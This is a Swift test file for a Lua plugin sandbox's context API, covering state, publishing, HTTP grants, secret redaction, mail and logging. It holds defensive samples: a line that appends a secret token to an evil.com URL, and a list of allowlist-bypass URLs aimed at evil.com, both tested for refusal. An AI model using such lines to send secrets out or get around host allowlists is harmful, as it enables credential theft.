// SPDX-License-Identifier: Apache-2.0

import Events
import Logging
import Testing

@testable import Scripting

@Suite(.timeLimit(.minutes(1)))
struct ContextTests {
    private func plugin(_ body: String) -> String { "return function(event, ctx) \(body) end" }

    private func reason(_ settlement: Settlement) -> String {
        switch settlement.outcome {
        case .retry(_, let reason), .dead(let reason), .drop(let reason): reason
        case .ack, .returned: ""
        }
    }

    // MARK: State

    @Test func stateIsReadBackBeforeItIsCommitted() async throws {
        let services = FakeServices(state: ["old": "5", "gone": "1"])
        let harness = try await Harness(
            plugin(
                """
                local s = ctx.state
                assert(s.get("missing") == nil and s.get("missing", 7) == 7)
                assert(s.get("old") == 5)
                s.put("table", {list = ctx.json.array(), n = 1.5})
                assert(#s.get("table").list == 0 and s.get("table").n == 1.5)
                assert(s.add("old", 2) == 7 and s.get("old") == 7)
                assert(s.add("new") == 1 and math.type(s.add("new", 1)) == "integer")
                assert(s.add("float", 0.5) == 0.5)
                s.delete("gone")
                assert(s.get("gone") == nil)
                s.put("ttl", "x", {ttl = "1m"})
                local keys = {}
                for _, entry in ipairs(s.list()) do keys[#keys + 1] = entry.key end
                assert(table.concat(keys, " ") == "float new old table ttl", table.concat(keys, " "))
                assert(#s.list("", {limit = 2}) == 2 and s.list("o")[1].value == 7)
                assert(s.list("", {after = "old"})[1].key == "table")
                """), services: services)
        let settlement = await harness.run()
        #expect(settlement.outcome == .ack)
        let writes = try #require(settlement.effects?.state)
        #expect(
            writes == [
                .add(key: "float", delta: .float(0.5)), .delete(key: "gone"), .add(key: "new", delta: .integer(2)),
                .add(key: "old", delta: .integer(2)),
                .put(key: "table", value: Array(#"{"list":[],"n":1.5}"#.utf8), expires: nil),
                .put(key: "ttl", value: Array(#""x""#.utf8), expires: FixedClock().time + .seconds(60)),
            ])
        #expect(services.state["old"] == "7")
    }

    @Test(arguments: ["return false", "error('x')", "return ctx.dead('x')", "while true do end"])
    func stateIsThrownAwayUnlessAcknowledged(_ end: String) async throws {
        let harness = try await Harness(
            plugin("ctx.state.put('a', 1) ctx.publish('stock', {}) \(end)"),
            grants: [.publish("stock")])
        let settlement = await harness.run()
        #expect(settlement.effects == nil)
        #expect(harness.services.state["a"] == nil)
    }

    @Test func stateGoesWithADropToo() async throws {
        let harness = try await Harness(plugin("ctx.state.put('a', 1) return ctx.drop('x')"))
        #expect(await harness.run().effects?.state.count == 1)
    }

    @Test func countingOverManyEventsLosesNone() async throws {
        let harness = try await Harness(
            plugin("local n = ctx.state.add('count', 1) if n % 10 == 0 then ctx.state.put('tens', n) end"))
        await harness.run((0..<500).map { .order("{}", id: "\($0)") })
        #expect(harness.services.state["count"] == "500")
        #expect(harness.services.state["tens"] == "500")
    }

    @Test func concurrentAddsCommute() async throws {
        let harness = try await Harness(
            plugin("ctx.state.add('count', 1) ctx.sleep(0.001) ctx.state.add('count', 1)"), concurrency: 8)
        await harness.run((0..<40).map { .order("{}", id: "\($0)") })
        #expect(harness.services.state["count"] == "80")
    }

    @Test(arguments: [
        ("ctx.state.put('k', print)", "a function can't be JSON"),
        ("ctx.state.put('', 1)", "a key is 1 to 512 bytes"),
        ("ctx.state.put('k')", "bad argument #2"),
        ("ctx.state.put('k', nil)", "the value is nil; use ctx.state.delete"),
        ("ctx.state.put('k', 1, {tll = 1})", "its only option is ttl"),
        ("ctx.state.put('k', 1, {ttl = 'soon'})", "'soon' is no duration"),
        ("ctx.state.put('k', ('x'):rep(300000))", "the limit is 262144"),
        ("ctx.state.put('k', {}) ctx.state.add('k', 1)", "\"k\" holds something that is not a number"),
        ("for i = 1, 1001 do ctx.state.put('k' .. i, 1) end", "one call may write 1000 state keys"),
        (
            "ctx.publish('stock', {})",
            "publishing to stock is not granted to plugin \"test\"; add `allow publish stock` to subscriber test"
        ),
        ("ctx.mail.send{to = 'a@b', text = ''}", "mail is not granted to plugin \"test\"; add `allow mail`"),
        ("ctx.env('HOME')", "env(\"HOME\") is not granted"),
        (
            "ctx.http.get('https://example.com/x')",
            "HTTP to example.com is not granted to plugin \"test\"; add `allow http \"example.com\"`"
        ),
        ("ctx.http.get('ftp://example.com')", "is no http or https URL"),
        ("ctx.http.get('http://user@example.com/')", "is no http or https URL"),
        ("ctx.http.get()", "the url is missing"),
        ("ctx.sleep('soon')", "'soon' is no duration"),
        ("return ctx.dead()", "ctx.dead needs a reason"),
        ("return ctx.retry{afetr = 1}", "its options are after and reason"),
        ("ctx.log.info('x', 1)", "bad argument #2"),
    ])
    func aCallThatIsWrongSaysHow(_ body: String, _ message: String) async throws {
        let settlement = await (try await Harness(plugin(body))).run()
        #expect(reason(settlement).contains(message), "\(settlement.outcome)")
        #expect(reason(settlement).hasPrefix("Plugins/test.lua:1:"), "\(settlement.outcome)")
    }

    // MARK: Publishing

    @Test func publishingMakesAnEventOfTheAck() async throws {
        let harness = try await Harness(
            plugin(
                """
                ctx.publish("stock.low", {sku = "a", left = 2}, {type = "stock.low.v1", key = "a", subject = "s", id = "i-1",
                  source = "/x", urgent = true, level = 3})
                ctx.publish("stock.low", "plain", {datacontenttype = "text/plain"})
                ctx.publish("stock.low")
                """), grants: [.publish("stock.low")])
        let publications = try #require(await harness.run().effects?.publications)
        #expect(publications.map(\.topic) == ["stock.low", "stock.low", "stock.low"])
        let event = publications[0].event
        #expect(event.id == "i-1" && event.type == "stock.low.v1" && event.source == "/x")
        #expect(event.data == .json(Array(#"{"left":2,"sku":"a"}"#.utf8)))
        #expect(event["partitionkey"] == "a" && event["subject"] == "s")
        #expect(event.attributes.contains(.init("urgent", .boolean(true))))
        #expect(event.attributes.contains(.init("level", .integer(3))))
        #expect(event["time"] == "2023-11-14T22:15:00.000Z")
        #expect(publications[1].event.data == .text(Array("plain".utf8)))
        #expect(publications[1].event.type == "stock.low")
        #expect(publications[1].event.source == "/subscribers/test")
        #expect(publications[2].event.data == .none)
        #expect(publications[1].event.id != publications[2].event.id)
    }

    @Test(arguments: [
        ("{Upper = 'x'}", "is no attribute's name"), ("{type = 5}", "type can't be a number"),
        ("{big = 1 << 40}", "has 32 bits"), ("{bad = '\\255'}", "not UTF-8"), ("{key = 5}", "use tostring"),
    ])
    func aPublicationThatIsNoEventIsRefused(_ options: String, _ message: String) async throws {
        let harness = try await Harness(plugin("ctx.publish('t', {}, \(options))"), grants: [.publish("t")])
        #expect(reason(await harness.run()).contains(message))
    }

    // MARK: HTTP

    private func http(_ body: String, settings: [PluginSetting] = []) async throws -> Harness {
        try await Harness(
            plugin(body), settings: settings, grants: [.http("hooks.slack.com"), .http("127.0.0.1:9099")])
    }

    @Test func postingJSONSendsItAndReadsTheAnswer() async throws {
        let harness = try await http(
            """
            local res = ctx.http.post("https://hooks.slack.com/a", {json = {text = "hi", n = 1}, headers = {["X-A"] = "b", n = 5},
              timeout = "2s"})
            assert(res.status == 201 and res.body == '{"ok":true}' and res.headers["x-b"] == "c" and res.json().ok == true)
            """)
        harness.services.http.respond(201, #"{"ok":true}"#, headers: [("x-b", "c")])
        #expect(await harness.run().outcome == .ack)
        let request = try #require(harness.services.http.requests.first)
        #expect(request.method == "POST" && request.url == "https://hooks.slack.com/a")
        #expect(String(decoding: request.body, as: UTF8.self) == #"{"n":1,"text":"hi"}"#)
        #expect(
            request.headers.map { "\($0.name): \($0.value)" } == ["X-A: b", "n: 5", "content-type: application/json"])
        #expect(request.timeout == .seconds(2))
    }

    @Test(
        arguments: [
            (408, [], Outcome.retry(after: nil, reason: "")),
            (429, [("retry-after", "30")], .retry(after: .seconds(30), reason: "")),
            (503, [("retry-after", "999999")], .retry(after: .seconds(3_600), reason: "")),
            (503, [("Retry-After", "Tue, 14 Nov 2023 22:15:10 GMT")], .retry(after: .seconds(10), reason: "")),
            (429, [("retry-after", "soon")], .retry(after: nil, reason: "")), (500, [], .retry(after: nil, reason: "")),
            (400, [], .dead(reason: "")), (404, [], .dead(reason: "")), (302, [], .dead(reason: "")), (204, [], .ack),
        ] as [(Int, [(String, String)], Outcome)])
    func aStatusKnowsItsOutcome(_ status: Int, _ headers: [(String, String)], _ expected: Outcome) async throws {
        let harness = try await http("ctx.http.post('https://hooks.slack.com/secret/path', {body = 'x'})")
        harness.services.http.respond(status, "because", headers: headers.map { (name: $0.0, value: $0.1) })
        let settlement = await harness.run()
        let text = "Plugins/test.lua:1: POST https://hooks.slack.com: \(status): because"
        switch expected {
        case .retry(let after, _): #expect(settlement.outcome == .retry(after: after, reason: text))
        case .dead: #expect(settlement.outcome == .dead(reason: text))
        default: #expect(settlement.outcome == expected)
        }
    }

    @Test(arguments: [
        (
            OutboundFailure.connection("refused"),
            Outcome.retry(after: nil, reason: "Plugins/test.lua:1: GET http://127.0.0.1:9099: no connection: refused")
        ),
        (
            .timeout,
            .retry(after: nil, reason: "Plugins/test.lua:1: GET http://127.0.0.1:9099: no answer within 10000 ms")
        ),
        (.badRequest("no host"), .dead(reason: "Plugins/test.lua:1: GET http://127.0.0.1:9099: no host")),
    ])
    func aFailureKnowsItsOutcome(_ failure: OutboundFailure, _ expected: Outcome) async throws {
        let harness = try await http("ctx.http.get('http://127.0.0.1:9099/')")
        harness.services.http.respond { _ throws(OutboundFailure) in throw failure }
        #expect(await harness.run().outcome == expected)
    }

    @Test func aFailureCanBeCaughtLookedAtAndThrownOn() async throws {
        let harness = try await http(
            """
            local ok, err = pcall(ctx.http.get, "http://127.0.0.1:9099/")
            assert(not ok and err.status == 503 and err.outcome == "retry" and err.after == 5 and err.response.body == "busy")
            assert(tostring(err):find("503") and ("x: " .. err):find("x: .*503"))
            error(err)
            """)
        harness.services.http.respond(503, "busy", headers: [("retry-after", "5")])
        guard case .retry(.seconds(5), let reason) = await harness.run().outcome else {
            Issue.record("not a retry")
            return
        }
        #expect(reason.contains("503: busy"))
    }

    @Test func withRaiseFalseTheResponseIsHandedBack() async throws {
        let harness = try await http(
            """
            local res, err = ctx.http.request{url = "http://127.0.0.1:9099/", method = "PUT", body = "b", raise = false}
            if event.attempt == 1 then assert(res.status == 500 and not err) else assert(res == nil and err:find("no answer")) end
            """)
        harness.services.http.respond(500)
        #expect(await harness.run().outcome == .ack)
        harness.services.http.respond { _ throws(OutboundFailure) in throw .timeout }
        #expect(await harness.run(attempt: 2).outcome == .ack)
    }

    @Test(arguments: [
        ("https://evil.com/hooks.slack.com", false), ("https://hooks.slack.com.evil.com/", false),
        ("https://hooks.slack.com:444/", true), ("https://HOOKS.slack.com/", true), ("https://hooks.slack.com./", true),
        ("https://a.hooks.slack.com/", false), ("http://127.0.0.1:9098/", false), ("https://x@hooks.slack.com/", false),
        ("https://hooks.slack.com\\@evil.com/", false), ("https://hooks.slack.com#@evil.com/", true),
        ("https://a.example.com/", true), ("https://example.com/", false), ("https://aexample.com/", false),
        ("https://hooks.slack.com%2eevil.com/", false), ("https://[::1]/", false),
    ])
    func onlyGrantedHostsAreReached(_ url: String, _ allowed: Bool) async throws {
        let harness = try await Harness(
            plugin("ctx.http.get([==[\(url)]==])"),
            grants: [.http("hooks.slack.com"), .http("127.0.0.1:9099"), .http("*.example.com")])
        #expect((await harness.run().outcome == .ack) == allowed)
        #expect(harness.services.http.requests.count == (allowed ? 1 : 0))
    }

    @Test func manyWaitAtOnceUpToTheConcurrency() async throws {
        let harness = try await Harness(
            plugin("ctx.http.get('https://hooks.slack.com/' .. event.id)"), grants: [.http("hooks.slack.com")],
            concurrency: 10)
        let gate = Gate(10)
        harness.services.http.respond { _ throws(OutboundFailure) in
            await gate.arrive()
            return OutboundResponse(status: 200, headers: [], body: [])
        }
        let settlements = await harness.run((0..<20).map { .order("{}", id: "\($0)") })
        #expect(settlements.allSatisfy { $0.outcome == .ack })
        #expect(await gate.most == 10)
    }

    @Test func withConcurrencyOneTheOrderIsKeptThroughWaits() async throws {
        let harness = try await Harness(plugin("ctx.sleep((3 - event.offset % 3) / 1000)"))
        let deliveries = harness.deliveries((0..<9).map { .order("{}", id: "\($0)") })
        harness.destination.deliver(Array(deliveries[..<4]))
        harness.destination.deliver(Array(deliveries[4...]))
        _ = await harness.outcomes.settled(deliveries.map(\.id))
        #expect(harness.outcomes.order.map(\.offset) == Array(0..<9))
    }

    // MARK: Secrets

    @Test func aSecretWhoseNameContainsItsValueIsRedactedAndEnds() async throws {
        let harness = try await Harness(
            "return function(event, ctx) error('leak hunter2 and hunter2', 0) end",
            settings: [PluginSetting("token", .secret(name: "hunter2_token", value: "hunter2"))])
        #expect(reason(await harness.run()) == "leak secret(hunter2_token) and secret(hunter2_token)")
    }

    @Test func aSecretReachesAGrantedHostAndNothingElse() async throws {
        let secret = PluginSetting("token", .secret(name: "API_TOKEN", value: "s3cr3t-value"))
        let harness = try await http(
            """
            local token = ctx.config.token
            assert(tostring(token) == "secret(API_TOKEN)" and tostring("Bearer " .. token) == "secret(API_TOKEN)")
            ctx.log.info(token, {token = token})
            ctx.log.info("x" .. tostring(token))
            ctx.http.post("https://hooks.slack.com/" .. token, {headers = {authorization = "Bearer " .. token,
              basic = "Basic " .. ctx.crypto.base64("user:" .. token)}, json = {token = token}})
            error("leak s3cr3t-value")
            """, settings: [secret])
        let settlement = await harness.run()
        #expect(
            reason(settlement) == "Plugins/test.lua:1: leak secret(API_TOKEN)"
                || reason(settlement).hasSuffix("leak secret(API_TOKEN)"))
        let request = try #require(harness.services.http.requests.first)
        #expect(request.url == "https://hooks.slack.com/s3cr3t-value")
        #expect(request.headers.contains { $0.name == "authorization" && $0.value == "Bearer s3cr3t-value" })
        #expect(request.headers.contains { $0.name == "basic" && $0.value == "Basic dXNlcjpzM2NyM3QtdmFsdWU=" })
        #expect(String(decoding: request.body, as: UTF8.self) == #"{"token":"s3cr3t-value"}"#)
        #expect(harness.services.logs.lines.map(\.text) == ["secret(API_TOKEN)", "xsecret(API_TOKEN)"])
        #expect(harness.services.logs.lines[0].metadata["token"] == "secret(API_TOKEN)")
    }

    @Test(arguments: [
        ("ctx.json.encode{t = ctx.config.token}", "secret(API_TOKEN) can't be written here"),
        ("ctx.state.put('k', ctx.config.token)", "secret(API_TOKEN) can't be written here"),
        ("ctx.publish('t', {t = ctx.config.token})", "secret(API_TOKEN) can't be written here"),
        ("ctx.publish('t', {}, {subject = ctx.config.token})", "may not leave in an event"),
        ("ctx.mail.send{to = 'a@b', text = ctx.config.token}", "may not leave in a mail"),
        ("return ctx.config.token:sub(1, 1)", "a secret has no methods and can't be read"),
        ("return #ctx.config.token", "attempt to get length"),
        ("ctx.http.get('https://evil.com/' .. ctx.config.token)", "HTTP to evil.com is not granted"),
    ])
    func aSecretCanNotBeReadOut(_ body: String, _ message: String) async throws {
        let harness = try await Harness(
            plugin(body), settings: [PluginSetting("token", .secret(name: "API_TOKEN", value: "s3cr3t-value"))],
            grants: [.publish("t"), .mail])
        let text = reason(await harness.run())
        #expect(text.contains(message), "\(text)")
        #expect(!text.contains("s3cr3t"))
    }

    // MARK: The rest

    @Test func mailIsSentWithItsFields() async throws {
        let harness = try await Harness(
            plugin(
                "ctx.mail.send{to = {'a@x.org', 'B <b@x.org>'}, subject = 'S', text = 'T', html = '<p>', from = 'c@x.org'}"
            ),
            grants: [.mail])
        #expect(await harness.run().outcome == .ack)
        #expect(
            harness.services.mail.messages == [
                MailMessage(to: ["a@x.org", "B <b@x.org>"], from: "c@x.org", subject: "S", text: "T", html: "<p>")
            ])
        harness.services.mail.fail(.temporary("greylisted"))
        #expect(
            await harness.run().outcome == .retry(after: nil, reason: "Plugins/test.lua:1: mail not sent: greylisted"))
        harness.services.mail.fail(.refused("no such user"))
        #expect(await harness.run().outcome == .dead(reason: "Plugins/test.lua:1: mail refused: no such user"))
    }

    @Test func aWantReachesTheHostFromInsideCoroutinesAndPcall() async throws {
        let harness = try await Harness(
            plugin(
                """
                local co = coroutine.wrap(function()
                  local ok, value = pcall(function() ctx.sleep(0.001) return ctx.state.add("n", 1) end)
                  coroutine.yield(value)
                  ctx.state.add("n", 1)
                  error("inside", 0)
                end)
                assert(co() == 1)
                local ok, err = pcall(co)
                assert(not ok and err == "inside", err)
                """))
        #expect(await harness.run().outcome == .ack)
        #expect(harness.services.state["n"] == "2")
    }

    @Test func logsAndMetricsGoOut() async throws {
        let harness = try await Harness(
            plugin(
                """
                ctx.log.warn('careful', {order = 7, subscriber = 'another'})
                print('a', 1, {}) ctx.metric('sold', 2) ctx.metric('sold')
                """))
        await harness.run()
        #expect(harness.services.logs.lines.map(\.text) == ["careful", "a\t1\ttable"])
        #expect(harness.services.logs.lines[0].level == .warning)
        #expect(
            harness.services.logs.lines[0].metadata == [
                "order": "7", "subscriber": "test", "event.id": "e-1", "attempt": "1",
            ])
        #expect(harness.services.metrics["test.sold"] == 3)
    }

    @Test func logOutputIsBounded() async throws {
        let harness = try await Harness(plugin("for i = 1, 1000 do ctx.log.info(('x'):rep(1000)) end"))
        #expect(await harness.run().outcome == .ack)
        #expect(harness.services.logs.lines.count < 70)
        #expect(harness.services.logs.lines.last?.text == "log output of this call is cut off here")
    }

    @Test func grantedVariablesCanBeRead() async throws {
        let harness = try await Harness(
            plugin("assert(ctx.env('REGION') == 'eu' and ctx.env('NONE') == nil)"),
            grants: [.env("REGION"), .env("NONE")], services: FakeServices(environment: ["REGION": "eu"]))
        #expect(await harness.run().outcome == .ack)
    }
}

/// Holds callers until `count` of them are there, and remembers how many were there at once.
actor Gate {
    private let count: Int
    private var waiting: [CheckedContinuation<Void, Never>] = []
    private(set) var most = 0

    init(_ count: Int) {
        self.count = count
    }

    func arrive() async {
        most = max(most, waiting.count + 1)
        if waiting.count + 1 == count {
            for continuation in waiting { continuation.resume() }
            waiting = []
        } else {
            await withCheckedContinuation { waiting.append($0) }
        }
    }
}
